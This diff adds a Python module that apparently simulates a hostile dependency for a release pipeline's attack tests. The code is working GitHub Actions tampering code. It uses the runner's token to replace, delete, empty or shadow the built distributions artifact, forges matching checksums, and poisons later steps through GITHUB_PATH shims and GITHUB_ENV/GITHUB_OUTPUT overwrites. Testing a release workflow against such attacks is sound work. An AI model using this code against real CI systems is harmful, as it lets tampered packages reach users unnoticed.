@@ -1,0 +1,105 @@
+"""What a hostile dependency does when it is imported in a release; see `test_attacks`.
+
+Its source becomes a module of that dependency: standard library only.
+"""
+
+import hashlib
+import io
+import json
+import os
+import pathlib
+import urllib.request
+import zipfile
+
+SERVICE = "twirp/github.actions.results.api.v1.ArtifactService/"
+
+
+def ask(method: str, **body: object) -> dict:  # type: ignore[type-arg]
+    """Call the run's artifact service with the runner's own token."""
+    request = urllib.request.Request(
+        os.environ["ACTIONS_RESULTS_URL"] + SERVICE + method,
+        json.dumps(body).encode(),
+        {
+            "Authorization": f"Bearer {os.environ['ACTIONS_RUNTIME_TOKEN']}",
+            "Content-Type": "application/json",
+        },
+    )
+    with urllib.request.urlopen(request, timeout=60) as answer:
+        return json.load(answer)  # type: ignore[no-any-return]
+
+
+def read(name: str) -> dict[str, bytes]:
+    """The files of an artifact."""
+    where = ask("GetSignedArtifactURL", name=name)["signed_url"]
+    with urllib.request.urlopen(where, timeout=60) as answer:
+        archive = zipfile.ZipFile(io.BytesIO(answer.read()))
+    return {entry: archive.read(entry) for entry in archive.namelist()}
+
+
+def write(name: str, files: dict[str, bytes]) -> None:
+    """Make an artifact of a name, instead of the one that is there."""
+    if any(item["name"] == name for item in ask("ListArtifacts")["artifacts"]):
+        ask("DeleteArtifact", name=name)
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w") as archive:
+        for entry, data in files.items():
+            archive.writestr(entry, data)
+    where = ask("CreateArtifact", name=name, version=4)["signed_upload_url"]
+    put = urllib.request.Request(where, packed.getvalue(), method="PUT")
+    urllib.request.urlopen(put, timeout=60).close()
+    digest = hashlib.sha256(packed.getvalue()).hexdigest()
+    ask("FinalizeArtifact", name=name, size=str(len(packed.getvalue())), hash=f"sha256:{digest}")
+
+
+def other_files() -> dict[str, bytes]:
+    """The distributions with one more module in the wheel."""
+    files = read("distributions")
+    for name, data in files.items():
+        if name.endswith(".whl"):
+            packed = io.BytesIO(data)
+            with zipfile.ZipFile(packed, "a") as wheel:
+                wheel.writestr("demo_pkg/other.py", "")
+            files[name] = packed.getvalue()
+    return files
+
+
+def replace_distributions() -> None:
+    """Put other files in the place of the distributions, and their hashes where hashes were."""
+    files = other_files()
+    write("distributions", files)
+    sums = "".join(f"{hashlib.sha256(data).hexdigest()}  {name}\n" for name, data in files.items())
+    write("checksums", {"SHA256SUMS": sums.encode()})
+
+
+def delete_distributions() -> None:
+    """Delete the distributions, if this import is the first."""
+    if any(item["name"] == "distributions" for item in ask("ListArtifacts")["artifacts"]):
+        ask("DeleteArtifact", name="distributions")
+
+
+def empty_distributions() -> None:
+    """Leave an artifact with nothing in it."""
+    write("distributions", {})
+
+
+def shadow_distributions() -> None:
+    """Make another artifact of other files."""
+    write("distributions-1", other_files())
+
+
+def spoil_the_runner() -> None:
+    """Leave files, variables and programs for the later steps of the job."""
+    for wheel in pathlib.Path(os.environ["GITHUB_WORKSPACE"]).glob("dist/*"):
+        wheel.write_bytes(b"")
+    shims = pathlib.Path(os.environ["GITHUB_WORKSPACE"], "shims")
+    shims.mkdir(exist_ok=True)
+    (shims / "uv").write_text("#!/bin/sh\nexit 0\n")
+    (shims / "uv").chmod(0o755)
+    for variable, line in {
+        "GITHUB_PATH": str(shims),
+        "GITHUB_ENV": "HASHES=",
+        "GITHUB_OUTPUT": "artifact-id=\nhashes=",
+    }.items():
+        if path := os.environ.get(variable):
+            with pathlib.Path(path).open("a") as file:
+                file.write(f"{line}\n")
